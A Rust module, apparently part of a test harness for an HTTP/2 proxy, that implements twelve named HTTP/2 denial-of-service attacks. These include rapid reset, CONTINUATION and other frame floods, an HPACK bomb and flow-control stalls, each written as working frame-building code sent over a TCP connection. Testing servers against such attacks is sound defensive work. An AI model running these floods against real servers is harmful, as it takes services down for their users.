//! Known attacks on HTTP/2, frame by frame.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
use std::time::Duration;

/// Attack on HTTP/2.
pub(super) struct Attack {
    pub(super) name: &'static str,
    /// Bytes sent once after the preface and empty settings.
    begin: fn() -> Vec<u8>,
    /// Bytes sent repeatedly; the argument counts from 0. An empty value only waits.
    again: fn(u32) -> Vec<u8>,
}

pub(super) static ATTACKS: &[Attack] = &[
    Attack { name: "rapid reset (CVE-2023-44487)", begin: nothing, again: reset },
    Attack { name: "made resets (CVE-2025-8671)", begin: nothing, again: made_reset },
    Attack { name: "CONTINUATION flood (CVE-2024-27316)", begin: open_head, again: continuation },
    Attack { name: "empty CONTINUATION flood", begin: open_head, again: empty_continuation },
    Attack { name: "SETTINGS flood (CVE-2019-9515)", begin: nothing, again: settings },
    Attack { name: "PING flood (CVE-2019-9512)", begin: nothing, again: ping },
    Attack { name: "empty DATA flood (CVE-2019-9518)", begin: open_post, again: empty_data },
    Attack { name: "PRIORITY flood", begin: nothing, again: priority },
    Attack { name: "WINDOW_UPDATE flood", begin: nothing, again: window_update },
    Attack { name: "HPACK bomb", begin: nothing, again: bomb },
    Attack { name: "window stall (CVE-2019-9517)", begin: stalled, again: wait },
    Attack { name: "dribbled windows (CVE-2019-9511)", begin: stalled, again: dribble },
];

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// HPACK block of `GET /64` for `test`, without a dynamic table.
const GET: &[u8] = b"\x82\x86\x44\x03/64\x41\x04test";
/// HPACK block of `POST /64` for `test`.
const POST: &[u8] = b"\x83\x86\x44\x03/64\x41\x04test";
/// HPACK block of `GET /1048576` for `test`.
const GET_LARGE: &[u8] = b"\x82\x86\x44\x08/1048576\x41\x04test";
/// Streams of the attacks on flow-control windows.
const STREAMS: u32 = 100;

impl Attack {
    /// Runs the attack on one connection until the proxy closes it or `stop` is set.
    pub(super) fn once(&self, target: SocketAddr, stop: &AtomicBool) -> io::Result<()> {
        let mut socket = TcpStream::connect(target)?;
        socket.set_write_timeout(Some(Duration::from_millis(200)))?;
        socket.set_read_timeout(Some(Duration::from_millis(1)))?;
        socket.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
        socket.write_all(&frame(SETTINGS, 0, 0, b""))?;
        socket.write_all(&(self.begin)())?;
        let mut stats = vec![0; 64 * 1024];
        for n in 0..u32::MAX / 4 {
            if stop.load(Relaxed) {
                break;
            }
            let bytes = (self.again)(n);
            socket.write_all(&bytes)?;
            // An attacker that reads nothing would only be slowed down by the kernel.
            if bytes.is_empty() || n % 64 == 0 {
                match socket.read(&mut stats) {
                    Ok(0) => break,
                    Err(e) if !matches!(e.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) => {
                        break;
                    }
                    _ => {}
                }
            }
        }
        Ok(())
    }
}

/// Encodes a frame (RFC 9113 section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = (payload.len() as u32).to_be_bytes();
    let mut frame = vec![len[1], len[2], len[3], kind, flags];
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

fn nothing() -> Vec<u8> {
    Vec::new()
}

fn wait(_n: u32) -> Vec<u8> {
    Vec::new()
}

fn reset(n: u32) -> Vec<u8> {
    let stream = 1 + 2 * n;
    let mut both = frame(HEADERS, END_STREAM | END_HEADERS, stream, GET);
    both.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
    both
}

fn made_reset(n: u32) -> Vec<u8> {
    let stream = 1 + 2 * n;
    let mut both = frame(HEADERS, END_STREAM | END_HEADERS, stream, GET);
    both.extend(frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()));
    both
}

fn open_head() -> Vec<u8> {
    frame(HEADERS, 0, 1, GET)
}

fn continuation(_n: u32) -> Vec<u8> {
    frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b").repeat(32)
}

fn empty_continuation(_n: u32) -> Vec<u8> {
    frame(CONTINUATION, 0, 1, b"").repeat(32)
}

fn settings(_n: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00\x64").repeat(32)
}

fn ping(_n: u32) -> Vec<u8> {
    frame(PING, 0, 0, b"12345678").repeat(32)
}

fn open_post() -> Vec<u8> {
    frame(HEADERS, END_HEADERS, 1, POST)
}

fn empty_data(_n: u32) -> Vec<u8> {
    frame(DATA, 0, 1, b"").repeat(32)
}

fn priority(n: u32) -> Vec<u8> {
    frame(PRIORITY, 0, 1 + 2 * n, b"\x00\x00\x00\x00\x10")
}

fn window_update(_n: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01").repeat(32)
}

/// Sends one long field for the dynamic table, then thousands of references to it.
fn bomb(n: u32) -> Vec<u8> {
    let mut block = GET.to_vec();
    block.extend_from_slice(b"\x40\x01x\x7f\xe1\x1e");
    block.extend_from_slice(&[b'y'; 4000]);
    block.extend(std::iter::repeat_n(0xbe, 10_000));
    frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * n, &block)
}

/// Requests large responses on many streams and grants no window for them.
fn stalled() -> Vec<u8> {
    let mut bytes = frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\x00\x00");
    for n in 0..STREAMS {
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * n, GET_LARGE));
    }
    bytes
}

fn dribble(_n: u32) -> Vec<u8> {
    (0..STREAMS).flat_map(|n| frame(WINDOW_UPDATE, 0, 1 + 2 * n, b"\0\0\0\x01")).collect()
}
